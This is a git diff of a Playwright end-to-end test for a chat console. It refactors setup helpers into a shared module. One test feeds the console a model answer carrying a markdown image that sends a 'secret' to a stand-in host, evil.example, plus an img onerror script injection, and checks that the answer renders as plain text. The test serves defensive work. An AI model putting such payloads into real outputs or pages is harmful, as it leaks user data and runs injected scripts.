@@ -1,8 +1,7 @@
 import { afterEach, describe, expect, it } from 'vitest';
-import type { Page } from 'playwright-core';
-import { TEST_PASSPHRASE } from '../helpers/vault.js';
-import { browserStorage, fileInput, filesContaining, openConsole, screenshot, storeSnapshot, type Console } from './harness.js';
+import { browserStorage, filesContaining, openConsole, screenshot, storeSnapshot, type Console } from './harness.js';
 import { startModelServer, type ModelServer } from './model-server.js';
+import { ask, setUpChat } from './chat-setup.js';
 
 let c: Console | null = null;
 let model: ModelServer | null = null;
@@ -15,38 +14,12 @@ afterEach(async () => {
 
 const CANARY = 'MARMOTCANARY5521';
 
-async function setUp(page: Page, m: ModelServer): Promise<void> {
-  await page.locator('input[name=new-passphrase]').fill(TEST_PASSPHRASE);
-  await page.locator('input[name=confirm-passphrase]').fill(TEST_PASSPHRASE);
-  await page.getByLabel(/Add two sample clients/).uncheck();
-  await page.getByRole('button', { name: 'Create vault' }).click();
-  await page.getByPlaceholder('New client name').fill('Marmot Analytics');
-  await page.getByRole('button', { name: 'Create client' }).click();
-  await page.getByTestId('open-tenant-name').filter({ hasText: 'Marmot Analytics' }).waitFor();
-  await page.getByTestId('file-picker').setInputFiles([fileInput('terms.md', `# Renewal terms\n\nThe contract renews each March. Reference ${CANARY}.`)]);
-  await page.getByTestId('ingest-summary').waitFor();
-  await page.getByRole('button', { name: 'Settings' }).click();
-  const section = page.getByRole('region', { name: 'Chat model' });
-  await section.getByLabel('Endpoint', { exact: true }).fill(m.baseUrl);
-  await section.getByLabel('Model', { exact: true }).fill('loopback-model');
-  await section.getByRole('button', { name: 'Save' }).click();
-  await expect.poll(() => section.innerText()).toContain('Saved.');
-  await section.getByRole('button', { name: 'Test connection' }).click();
-  await expect.poll(() => section.innerText()).toContain('Connected');
-  await page.getByRole('button', { name: 'Ask' }).first().click();
-}
-
-async function ask(page: Page, question: string): Promise<void> {
-  await page.getByLabel('Question').fill(question);
-  await page.getByLabel('Question').press('Enter');
-}
-
 describe('chat in the console', () => {
   it('streams an answer from a loopback model, as text only, with a citation that opens its passage', async () => {
     model = await startModelServer();
     c = await openConsole();
     const { page } = c;
-    await setUp(page, model);
+    await setUpChat(page, model, CANARY);
     model.answer('It renews each March [S1]. ![pixel](http://evil.example/p.png?d=secret) <img src=x onerror="document.title=1">', 120);
     await ask(page, 'When does the contract renew?');
     await page.locator('.caret').waitFor();
@@ -67,7 +40,7 @@ describe('chat in the console', () => {
     model = await startModelServer();
     c = await openConsole();
     const { page } = c;
-    await setUp(page, model);
+    await setUpChat(page, model, CANARY);
     model.answer(`${'slow words '.repeat(60)} ${CANARY}-LATE`, 60);
     await ask(page, 'Tell me everything.');
     await expect.poll(() => page.getByTestId('answer').last().innerText()).toContain('slow words');
